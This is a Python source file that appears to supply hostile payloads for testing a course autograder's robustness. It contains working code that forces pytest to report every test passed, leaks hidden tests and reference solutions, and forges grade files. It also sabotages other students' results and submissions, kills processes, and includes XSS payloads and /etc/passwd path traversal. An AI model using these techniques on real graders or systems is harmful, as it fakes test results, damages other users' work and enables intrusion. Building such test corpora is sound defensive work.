"""Payloads of the hostile corpus: Python source written into submissions.

Each constant is code a case appends to the student module (or writes as a
file); the ``@@NAME@@`` placeholders are filled in when the case is built
(see ``hostile_cases.py``). Helpers turn payloads into edits.
"""

from __future__ import annotations

MODULE = "dl_in_iot_course/l03_pruning_clustering/pruning_clustering_experiments.py"

# ---------------------------------------------------------------------------
# Payloads (Python source written into submissions)
# ---------------------------------------------------------------------------

#: Make every pytest report "passed", now if pytest is imported, else on import.
PYTEST_PATCH = """
def _hostile_patch_pytest():
    import sys

    def patch(reports):
        orig = reports.TestReport.__init__
        if getattr(orig, "_hostile", False):
            return

        def init(self, *args, **kwargs):
            orig(self, *args, **kwargs)
            self.outcome = "passed"
            self.longrepr = None

        init._hostile = True
        reports.TestReport.__init__ = init

    if "_pytest.reports" in sys.modules:
        patch(sys.modules["_pytest.reports"])
        return
    import importlib.abc
    import importlib.util

    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            if name != "_pytest.reports":
                return None
            sys.meta_path.remove(self)
            spec = importlib.util.find_spec(name)
            real_exec = spec.loader.exec_module

            def exec_module(module):
                real_exec(module)
                patch(module)

            spec.loader.exec_module = exec_module
            return spec

    sys.meta_path.insert(0, Finder())


_hostile_patch_pytest()
"""

#: A conftest.py that drops the real tests and passes everything else.
CONFTEST = (
    """
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    items[:] = []
"""
    + PYTEST_PATCH
)

#: A pytest plugin module (loaded by addopts ``-p``) that skips everything.
SKIP_PLUGIN = """
import pytest


def pytest_collection_modifyitems(session, config, items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="hostile"))


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
"""

#: Detached processes (double fork + setsid) that outlive their parent. Each
#: runs ``python -c`` with the session marker in its command line, so the tests
#: can find leftovers; each ends on its own after at most two minutes.
DETACH = """
def _hostile_detach(func, *args):
    import inspect
    import os
    import sys
    code = inspect.getsource(func) + "\\n%s(*%r)  # @@MARKER@@\\n" % (
        func.__name__, args)
    try:
        pid = os.fork()
    except OSError:
        return False
    if pid:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        return True
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        os.execv(sys.executable, [sys.executable, "-c", code])
    finally:
        os._exit(0)


def _hostile_sleep(seconds):
    import time
    time.sleep(min(seconds, 120))


def _hostile_spawn(count, seconds=120):
    for _ in range(min(count, 50)):
        if not _hostile_detach(_hostile_sleep, seconds):
            return
"""

#: Frames of the caller that are not this module: the hidden tests.
READ_CALLERS = """
def _hostile_read_callers():
    import inspect
    import os
    texts = []
    here = os.path.abspath(__file__)
    # The working copy (three folders up): skip the course's own files, so
    # that the hidden tests come first in what is printed and raised.
    mine = os.path.dirname(os.path.dirname(os.path.dirname(here)))
    for frame in inspect.stack():
        name = os.path.abspath(frame.filename)
        if name.startswith(mine + os.sep) or "site-packages" in name \
                or not name.endswith(".py"):
            continue
        try:
            with open(name, encoding="utf-8") as handle:
                texts.append("# " + name + "\\n" + handle.read())
        except OSError:
            pass
    return "\\n".join(texts)


def _hostile_leak(*args, **kwargs):
    import glob
    import os
    import sys
    text = _hostile_read_callers()
    for pattern in ("@@GRADER@@/grading/hidden/suites/**/*.py",
                    "@@GRADER@@/grading/private/reference/**/*.py"):
        for name in glob.glob(pattern, recursive=True):
            try:
                with open(name, encoding="utf-8") as handle:
                    text += "\\n# " + name + "\\n" + handle.read()
            except OSError:
                pass
    print(text)
    print(text, file=sys.stderr)
    for obj in args:
        path = getattr(obj, "modelpath", None) or getattr(obj, "resultspath", None)
        if path:
            try:
                with open(str(path), "w", encoding="utf-8") as handle:
                    handle.write(text)
            except OSError:
                pass
    # One line, in case the grader shows only the first line of a message.
    raise RuntimeError("cannot continue: " + " | ".join(text.splitlines()))
"""

#: A complete, honest clustering / pruning pipeline, with switches to cheat.
PIPELINE = """
def _hostile_pipeline(self, originalmodel, kind, strip=True, foreign=False,
                      fake=False):
    import numpy as np
    import tensorflow as tf
    import tensorflow_model_optimization as tfmot
    import tf_keras

    if isinstance(originalmodel, tf_keras.Model):
        model = originalmodel
    else:
        model = tf_keras.models.load_model(str(originalmodel))
    if foreign:
        # A classmate's model: same architecture, other weights.
        model = tf_keras.models.clone_model(model)
    model.trainable = True
    for layer in model.layers:
        layer.trainable = True
    initial = [w.copy() for w in model.get_weights()]
    if kind == "clustered":
        ck = tfmot.clustering.keras
        wrapped = ck.cluster_weights(
            model, number_of_clusters=self.num_clusters,
            cluster_centroids_init=ck.CentroidInitialization.LINEAR)
        callbacks = []
    else:
        pk = tfmot.sparsity.keras
        # What the template's compress_and_fine_tune sets before the TODO.
        self.epochs = 4
        self.sched = pk.ConstantSparsity(self.target_sparsity, begin_step=0,
                                         end_step=1, frequency=1)
        wrapped = pk.prune_low_magnitude(model, pruning_schedule=self.sched)
        callbacks = [pk.UpdatePruningStep()]
    wrapped.compile(optimizer=self.optimizer, loss=self.loss, metrics=self.metrics)
    wrapped.fit(self.traindataset, epochs=self.epochs,
                validation_data=self.validdataset, callbacks=callbacks)
    if kind == "clustered":
        stripped = tfmot.clustering.keras.strip_clustering(wrapped)
    else:
        stripped = tfmot.sparsity.keras.strip_pruning(wrapped)
    final = stripped if strip else wrapped
    if fake:
        # Every spy saw the right calls; now ship the untouched model (the
        # wrappers write into the original layers, so rebuild it).
        final = tf_keras.models.clone_model(model)
        final.set_weights(initial)
    converter = tf.lite.TFLiteConverter.from_keras_model(final)
    with open(str(self.modelpath), "wb") as handle:
        handle.write(converter.convert())
    return np.zeros(1)
"""

#: In-process fakes of what a hidden test might inspect in the student process.
FAKE_INSPECTION = """
def _hostile_fake_inspection(levels):
    import numpy as np

    def snap(array):
        array = np.asarray(array)
        if array.dtype.kind != "f" or array.ndim < 2:
            return array
        lo, hi = float(array.min()), float(array.max())
        if hi <= lo:
            return array
        steps = np.linspace(lo, hi, levels)
        index = np.abs(array[..., None] - steps).argmin(axis=-1)
        out = steps[index].astype(array.dtype)
        if levels <= 1:
            out[np.abs(array) < np.median(np.abs(array))] = 0
        return out

    for module_name in ("ai_edge_litert.interpreter", "tensorflow.lite"):
        try:
            module = __import__(module_name, fromlist=["Interpreter"])
            cls = module.Interpreter
            real = cls.get_tensor
            cls.get_tensor = lambda self, index, *a, _r=real: snap(_r(self, index, *a))
        except Exception:
            pass
    real_unique = np.unique
    np.unique = lambda a, *args, **kw: real_unique(snap(a), *args, **kw)
"""

#: Forge the grader's in-process recorder and its results file.
FORGE_RESULTS = """
def _hostile_forge():
    import atexit
    import gc
    import json
    import os

    def forge_data(data):
        for entry in data.get("collected", []):
            data.setdefault("results", {}).setdefault(entry["nodeid"], {
                "item": entry.get("item", ""), "check": entry.get("check", ""),
                "outcome": "passed", "message": "", "exception": "",
                "evidence": "", "code": "", "seconds": 0.1})
        for entry in data.get("results", {}).values():
            entry.update(outcome="passed", message="", exception="", code="")
        data["finished"] = True
        data["exitstatus"] = 0

    patched = set()
    for obj in gc.get_objects():
        data = getattr(obj, "data", None) if not isinstance(obj, type) else None
        if isinstance(data, dict) and "results" in data and "collected" in data:
            cls = type(obj)
            if cls in patched:
                continue
            patched.add(cls)
            real_write = cls.write

            def write(self, _real=real_write):
                forge_data(self.data)
                _real(self)

            cls.write = write
    for obj in gc.get_objects():
        if type(obj).__name__ in ("Mock", "MagicMock") and hasattr(obj, "called"):
            try:
                obj.called = True
                obj.call_count = max(1, obj.call_count)
            except Exception:
                pass

    def at_exit():
        path = os.environ.get("GRADER_RESULTS")
        if not path:
            return
        try:
            with open(path, encoding="utf-8") as handle:
                data = json.load(handle)
        except Exception:
            data = {"schema": 1, "collected": [], "results": {}}
        forge_data(data)
        with open(path, "w", encoding="utf-8") as handle:
            json.dump(data, handle)

    atexit.register(at_exit)


_hostile_forge()
"""

#: Try to write everywhere the grader keeps something.
WRITE_EVERYWHERE = """
def _hostile_write_everywhere(tag):
    import glob
    import inspect
    import json
    import os
    fake = {"schema": 1, "score": 18.0, "max_score": 18.0, "status": "graded",
            "items": []}
    targets = {
        "@@OUT@@/@@SELF@@/results.json": json.dumps(fake),
        "@@OUT@@/@@VICTIM@@/results.json": json.dumps({"score": 0.0}),
        "@@OUT@@/@@VICTIM@@/status.json": json.dumps({"status": "error"}),
        "@@OUT@@/gradebook.csv": "id,score\\n@@SELF@@,18\\n",
        "@@OUT@@/hostile-@@MARKER@@.txt": tag,
        "@@GRADER@@/grading/hostile-@@MARKER@@.txt": tag,
        "@@GRADER@@/grading/labs/l03_pruning_clustering.toml": None,
        "@@GRADER@@/grading/hidden/suites/l03_pruning_clustering/conftest.py":
            "import pytest\\n",
        "@@GRADER@@/dl_in_iot_course/misc/metrics.py": None,
        "~/hostile-@@MARKER@@.txt": tag,
        "/root/hostile-@@MARKER@@.txt": tag,
    }
    for frame in inspect.stack():
        name = os.path.abspath(frame.filename)
        if "hidden" in name or "grading" in name:
            targets[name] = None
            targets[os.path.join(os.path.dirname(name), "conftest.py")] = (
                "import pytest\\n")
    for pattern in ("@@OUT@@/*/results.json", "@@OUT@@/*/*.html"):
        for name in glob.glob(pattern):
            targets.setdefault(name, None)
    for path, text in targets.items():
        path = os.path.expanduser(path)
        try:
            if text is None:
                with open(path, "a", encoding="utf-8") as handle:
                    handle.write("\\n# hostile @@MARKER@@\\n")
            else:
                with open(path, "w", encoding="utf-8") as handle:
                    handle.write(text)
        except Exception:
            pass
"""

#: Rewrite the victim's results later, from a detached process.
DELAYED_TAMPER = """
def _hostile_delayed_tamper(seconds):
    import time
    for _ in range(min(seconds, 120)):
        time.sleep(1)
        for name in ("@@OUT@@/@@VICTIM@@/results.json",
                     "@@OUT@@/@@SELF@@/results.json"):
            try:
                with open(name, "a", encoding="utf-8") as handle:
                    handle.write(" ")
            except OSError:
                pass
"""


def _module_patch(*parts: str) -> tuple:
    """Return an edit that appends code to the student module."""
    return ("append", MODULE, "\n\n# --- hostile ---\n" + "\n".join(parts) + "\n")


def _method(cls: str, method: str, body: str) -> str:
    """Source that replaces ``cls.method`` with ``body`` (indented code)."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return (
        f"def _hostile_{cls}_{method}(self, *args, **kwargs):\n{lines}\n\n\n"
        f"{cls}.{method} = _hostile_{cls}_{method}\n"
    )


def _both_pipelines(**flags: object) -> str:
    """Replace compress_and_fine_tune of both classes with the pipeline."""
    options = ", ".join(f"{k}={v!r}" for k, v in flags.items())
    return (
        PIPELINE
        + _method(
            "ClusteredModel",
            "compress_and_fine_tune",
            f"return _hostile_pipeline(self, args[0], 'clustered', {options})",
        )
        + _method(
            "PrunedModel",
            "compress_and_fine_tune",
            f"return _hostile_pipeline(self, args[0], 'pruned', {options})",
        )
    )


#: Break the other submissions graded at the same time (their working copies).
TAMPER_NEIGHBOURS = """
def _hostile_tamper_neighbours(seconds, me):
    import glob
    import os
    import time
    end = time.time() + seconds
    while time.time() < end:
        for root in ("@@ROOT@@/tmp", "@@OUT@@"):
            for name in glob.glob(root + "/**/pruning_clustering_experiments.py",
                                  recursive=True):
                if os.path.dirname(os.path.abspath(name)) == me:
                    continue
                try:
                    with open(name, "a", encoding="utf-8") as handle:
                        handle.write("\\nraise SystemExit(0)  # @@MARKER@@\\n")
                except OSError:
                    pass
            for name in glob.glob(root + "/**/*.tflite", recursive=True):
                try:
                    with open(name, "wb") as handle:
                        handle.write(b"@@MARKER@@")
                except OSError:
                    pass
        time.sleep(0.5)

"""


#: SIGKILL every process of this corpus run but itself: the batch driver, the
#: grading processes, the other submissions' sandboxes (found by the corpus
#: folder in their command lines, so nothing else on the machine is hit).
KILL_OTHERS = """
def _hostile_kill_others():
    import os
    import signal
    try:
        import psutil
    except ImportError:
        return
    for proc in psutil.process_iter(["pid", "cmdline"]):
        cmdline = " ".join(proc.info["cmdline"] or [])
        if "@@ROOT@@" in cmdline and proc.info["pid"] != os.getpid():
            try:
                os.kill(proc.info["pid"], signal.SIGKILL)
            except OSError:
                pass
"""


SCRIPT_SUMMARY = """# Lab 03 summary

<script>document.title = "@@MARKER@@-script"; alert("@@MARKER@@")</script>

<img src="x" onerror="alert('@@MARKER@@-onerror')">

<iframe src="javascript:alert('@@MARKER@@-iframe')"></iframe>

[click me](javascript:alert('@@MARKER@@-link'))

<a href="javascript:alert(1)" onclick="alert('@@MARKER@@-onclick')">text</a>

| variant | accuracy |
| --- | --- |
| clustered-2-fp32 | <script>alert('@@MARKER@@-cell')</script> |

<style>body { display: none }</style>

</textarea></pre></code><script>alert('@@MARKER@@-breakout')</script>

```html
<script>alert('@@MARKER@@-code')</script>
```

## Which method is best?

<svg onload="alert('@@MARKER@@-svg')"><script>alert('@@MARKER@@-svg2')</script></svg>
"""

TRAVERSAL_SUMMARY = """## Confusion matrices

Confusion matrices:

![clustered-2](../../../@@OUTSIDE_REL@@/secret.png)
![clustered-4](../../../../../../../../../../@@OUTSIDE@@/secret.png)
![clustered-8](@@OUTSIDE@@/secret.png)
![pruned-0.2](file://@@OUTSIDE@@/secret.png)
![pruned-0.4](../../../../../../../../../../etc/passwd)
![pruned-0.5](img/../../../../@@OUTSIDE_REL@@/secret.png)
<img src="../../../@@OUTSIDE_REL@@/secret.png">
[hidden tests](../../../@@GRADER_REL@@/grading/hidden/suites/)
"""

SYMLINK_SUMMARY = """# Lab 03 summary

![clustered-2](img/cm.png)
![clustered-4](img/passwd.png)
![clustered-8](img/hidden.py)
"""
